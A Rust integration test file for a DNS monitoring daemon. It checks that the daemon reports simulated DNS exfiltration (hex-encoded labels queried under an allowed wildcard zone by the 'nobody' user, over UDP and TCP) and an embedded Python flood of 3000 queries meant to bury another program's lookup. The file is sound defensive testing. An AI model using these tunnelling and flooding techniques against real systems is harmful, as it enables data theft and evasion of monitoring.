//! Attacks on `name-new` run for real: an unprivileged user (`nobody`)
//! carrying data out in DNS questions under a zone a wildcard allows, over
//! TCP and with names that do not exist, and burying another program's new
//! name under a flood of its own. Each must fail: every question is reported,
//! and the other program's name is an incident of its own.

mod common;

use std::time::{Duration, Instant};

use common::*;

fn lab() -> (Pair, Spawned) {
    let pair = Pair::new();
    // exfil.test: a zone the upstream knows, with no names in it (NXDOMAIN).
    let upstream = dnsmasq(
        &pair.b,
        &[B4],
        &[
            "--local=/exfil.test/".to_string(),
            "--address=/cdn.test/192.0.2.10".to_string(),
        ],
    );
    let deadline = Instant::now() + Duration::from_secs(10 * time_scale());
    loop {
        let out = pair
            .b
            .cmd(
                "dig",
                &["+short", "+tries=1", &format!("@{B4}"), "x.cdn.test"],
            )
            .output()
            .expect("dig");
        if String::from_utf8_lossy(&out.stdout).trim() == "192.0.2.10" {
            break;
        }
        assert!(Instant::now() < deadline, "dnsmasq did not start");
        std::thread::sleep(Duration::from_millis(100));
    }
    (pair, upstream)
}

fn policy() -> PolicyFile {
    PolicyFile::new(&format!(
        "mode = \"enforce\"\n\
         [dns]\nlisten = \"127.0.0.1:53\"\nupstream = [\"{B4}\"]\n\
         [novelty]\n\
         [[allow]]\nname = \"cdn\"\nhosts = [\"*.exfil.test\", \"*.cdn.test\"]\nports = [443]\n"
    ))
}

fn is_new(e: &serde_json::Value) -> bool {
    at(e, "/event/action") == "name-new" && at(e, "/egret/update") == false
}

#[test]
fn data_in_questions_under_an_allowed_zone_is_reported_over_tcp_and_for_names_that_do_not_exist() {
    let (pair, _upstream) = lab();
    let a = &pair.a;
    let policy = policy();
    let daemon = Running::start(a, &policy.state_dir(), &["--policy", policy.path()]);
    let time = format!("+time={}", 2 * time_scale());
    for (i, transport) in ["+notcp", "+tcp"].iter().enumerate() {
        let name = format!("6b6579{i}.exfil.test");
        let out = a
            .as_nobody("dig", &["+tries=1", &time, transport, "@127.0.0.1", &name])
            .output()
            .expect("dig");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("NXDOMAIN"), "{text}");
        let e = daemon.wait_event(10, &format!("name-new for {name}"), |e| {
            is_new(e) && at(e, "/dns/question/name") == name.as_str()
        });
        assert_eq!(at(&e, "/process/executable"), "/usr/bin/dig", "{e:#}");
        assert_eq!(at(&e, "/user/name"), "nobody");
        assert_eq!(
            at(&e, "/network/transport"),
            if *transport == "+tcp" { "tcp" } else { "udp" }
        );
        assert_eq!(at(&e, "/egret/novelty/pattern"), "*.exfil.test");
    }
}

/// Asks `n` distinct names under cdn.test from one UDP socket, 100 at a time.
const FLOOD: &str = r#"
import socket, struct, sys
n = int(sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
def query(i):
    name = b"".join(bytes([len(l)]) + l for l in f"f{i}.cdn.test".encode().split(b"."))
    return struct.pack(">HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">HH", 1, 1)
for start in range(0, n, 100):
    batch = range(start, min(n, start + 100))
    for i in batch:
        s.sendto(query(i), ("127.0.0.1", 53))
    for _ in batch:
        try:
            s.recv(512)
        except socket.timeout:
            break
"#;

#[test]
fn a_flood_of_new_names_does_not_bury_another_programs_new_name() {
    let (pair, _upstream) = lab();
    let a = &pair.a;
    let policy = policy();
    let daemon = Running::start(a, &policy.state_dir(), &["--policy", policy.path()]);
    let flood = a
        .as_nobody("/usr/bin/python3", &["-c", FLOOD, "3000"])
        .spawn()
        .expect("python3");
    let mut flood = Spawned(flood);
    daemon.wait_event(30, "the flood to fold", |e| {
        at(e, "/event/action") == "flood"
    });
    // While it floods: another program of another user asks a new name.
    let out = a
        .cmd(
            "dig",
            &["+short", "+tries=1", "@127.0.0.1", "victim.cdn.test"],
        )
        .output()
        .expect("dig");
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "192.0.2.10");
    let e = daemon.wait_event(10, "name-new for the other program", |e| {
        is_new(e) && at(e, "/dns/question/name") == "victim.cdn.test"
    });
    assert_eq!(at(&e, "/process/executable"), "/usr/bin/dig");
    assert_eq!(at(&e, "/user/name"), "root");
    let _ = flood.0.wait();
}
